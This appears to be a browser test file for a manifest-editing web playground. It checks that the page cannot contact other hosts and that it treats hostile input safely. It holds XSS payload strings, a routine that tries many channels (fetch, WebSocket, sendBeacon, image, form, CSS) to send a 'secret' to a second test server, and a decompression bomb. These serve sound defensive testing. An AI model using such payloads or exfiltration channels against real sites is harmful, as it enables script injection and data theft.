import { deflateRawSync } from 'node:zlib';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { escapeText } from '../../src/manifest/xml/characters.js';
import { manifest } from '../cli/in-memory.js';
import { describeInBrowsers } from '../support/in-browser.js';
import { storageBytes } from '../support/storage.js';
import { Playground } from './playground.js';
import { serveElsewhere, type TestServer } from './site-server.js';

const storage = storageBytes.toString();

/** Names that would become markup in a page that forgets to escape. */
const ATTACK = `"'><img src=x onerror="hacked=1"><script>hacked=1</script>[a](javascript:hacked=1)\``;

/** A manifest whose names and texts attack the page. */
const hostile = manifest()
  .replaceAll('Contoso-Clock', attribute(ATTACK))
  .replaceAll('symbol="Tick"', `symbol="Tick" name="${attribute(ATTACK)}"`)
  .replaceAll('id="Tick" value="Tick"', `id="${attribute(ATTACK)}" value="${attribute(ATTACK)} %1"`)
  .replaceAll('$(string.Tick)', `$(string.${attribute(ATTACK)})`);

function attribute(text: string): string {
  return escapeText(text).replaceAll('"', '&quot;');
}

describeInBrowsers('the playground and attackers', (browser) => {
  let playground: Playground;
  let elsewhere: TestServer;

  beforeAll(async () => {
    playground = await Playground.start(browser);
    elsewhere = await serveElsewhere();
  });

  afterAll(async () => {
    elsewhere?.close();
    await playground?.stop();
  });

  /** Tries all ways out. A page can run this in itself, in a worker and in a frame. */
  const tryToSend = async (address: string): Promise<string[]> => {
    const ways: Record<string, () => unknown> = {
      fetch: () => fetch(address),
      noCors: () => fetch(address, { mode: 'no-cors', method: 'POST', body: 'secret' }),
      socket: () =>
        new Promise((resolve, reject) => {
          const socket = new WebSocket(address.replace('http', 'ws'));
          socket.onopen = resolve;
          socket.onerror = reject;
        }),
      request: () =>
        new Promise((resolve, reject) => {
          const request = new XMLHttpRequest();
          request.onload = resolve;
          request.onerror = reject;
          request.open('GET', address);
          request.send();
        }),
      module: () => import(`${address}script.js`),
    };
    const open: string[] = [];
    for (const [name, way] of Object.entries(ways)) {
      try {
        await way();
        open.push(name);
      } catch {
        // Refused.
      }
    }
    return open;
  };

  // Only Chromium lets a test run code in the workers of a page.
  it.skipIf(browser !== 'Chromium')(
    'has no way out: not from the page, the workers or the frame',
    async () => {
      const { page } = await playground.open();
      await page.click('#tab-html');
      const frame = await (await page.waitForSelector('#panel-html iframe'))?.contentFrame();
      await frame?.waitForSelector('#query');
      const workers = page.workers();
      expect(workers.length).toBe(2);
      for (const target of [elsewhere.address, playground.server.address]) {
        expect(await page.evaluate(tryToSend, target)).toEqual([]);
        expect(await frame?.evaluate(tryToSend, target)).toEqual([]);
        for (const worker of workers) expect(await worker.evaluate(tryToSend, target)).toEqual([]);
      }
      const beacon = (address: string) => {
        navigator.sendBeacon(address, 'secret');
        const picture = new Image();
        picture.src = `${address}?secret`;
        const form = document.createElement('form');
        form.action = address;
        document.body.append(form);
        form.submit();
        const style = document.createElement('style');
        style.textContent = `body { background: url("${address}?secret"); } @import "${address}style.css";`;
        document.head.append(style);
      };
      await page.evaluate(beacon, elsewhere.address);
      await frame?.evaluate(beacon, elsewhere.address);
      await new Promise((resolve) => setTimeout(resolve, 1000));
      expect(elsewhere.asked).toEqual([]);
      await page.close();
    },
  );

  it('asks only for its own files, in all that it does', async () => {
    const before = playground.server.asked.length;
    const opened = await playground.open();
    for (const tab of ['csharp', 'resources', 'html', 'decode', 'compare', 'file'])
      await opened.click(`#tab-${tab}`);
    for (const sample of ['faulty.man', 'contoso-storage.man']) await opened.choose(sample);
    await opened.waitForFindings('none');
    await opened.click('#share');
    await opened.waitForText('#message', 'The address of this page now has the manifest');
    expect(opened.troubles).toEqual([]);
    const asked = playground.server.asked.slice(before);
    expect(asked.length).toBeGreaterThan(5);
    expect(asked.filter((path) => !path.startsWith('/tools/wevtc/playground/'))).toEqual([]);
    await opened.close();
  });

  it('says so', async () => {
    const opened = await playground.openFirstView();
    expect(await opened.text('.private')).toContain('Nothing leaves your browser');
    await opened.close();
  });

  it('shows hostile names as texts, everywhere', async () => {
    const opened = await playground.open();
    const { page } = opened;
    await opened.paste(hostile);
    await page.waitForFunction(() => document.querySelector('#findings')?.textContent?.includes('<img'));
    await opened.drop(`${ATTACK.replaceAll('/', '')}.man`, hostile);
    await opened.waitForText('#message', '<img');
    for (const tab of await page.$$eval('[role=tab]', (all) => all.map(({ id }) => id))) {
      await opened.click(`#${tab}`);
      await new Promise((resolve) => setTimeout(resolve, 300));
    }
    await opened.click('#tab-decode');
    await opened.waitForText('#decode-event', '<img');
    await opened.goAfter('symbol="Tick');
    await opened.press('Control', 'i');
    await opened.waitForText('.cm-hover', '<img');
    await page.mouse.move(0, 0);
    await page.$$eval('#findings .link', (all) => {
      for (const one of all) (one as HTMLElement).click();
    });
    await opened.click('#share');
    await opened.waitForText('#message', 'The address');
    const found = await page.evaluate(() => ({
      hacked: 'hacked' in globalThis,
      pictures: document.images.length,
      scripts: document.querySelectorAll('script').length,
      links: Array.from(document.links, ({ href }) => href).filter(
        (href) => !href.startsWith(location.origin),
      ),
    }));
    expect(found).toEqual({ hacked: false, pictures: 0, scripts: 1, links: [] });
    expect(opened.troubles).toEqual([]);
    await opened.close();
  });

  it('opens what another page shared', async () => {
    const opened = await playground.open();
    await opened.choose('contoso-storage.man');
    await opened.waitForFindings('none');
    await opened.click('#share');
    await opened.waitForText('#message', 'The address of this page now has the manifest');
    const fragment = new URL(await opened.page.url()).hash;
    await opened.close();
    const other = await playground.open({ fragment });
    await other.waitForText('#message', 'The manifest from the link is in the editor.');
    expect(await other.manifest()).toBe(storage);
    expect(await other.page.$eval('#name', (field) => (field as HTMLInputElement).value)).toBe(
      'contoso-storage.man',
    );
    expect(other.troubles).toEqual([]);
    await other.close();
  });

  const compressed = (text: Uint8Array | string) => `#m1=${deflateRawSync(text).toString('base64url')}`;

  it.each([
    ['rubbish', '#m1=%%%', 'damaged'],
    ['a bomb', compressed(new Uint8Array(200 << 20)), 'too large'],
    ['a cut link', compressed(`a.man\n${storage}`).slice(0, 400), 'damaged or cut off'],
    ['markup', '#m1=<img src=x onerror=alert(1)>', 'damaged'],
    ['a hostile manifest', compressed(`a.man\n${hostile}`), 'is in the editor'],
    ['no manifest at all', compressed(`../../x\0\n${'\0\u202e<'.repeat(99)}`), 'is in the editor'],
  ])('refuses or opens every fragment: %s', async (_, fragment, message) => {
    const opened = await playground.open({ fragment });
    await opened.waitForText('#message', message);
    expect(opened.troubles).toEqual([]);
    await opened.close();
  });
});
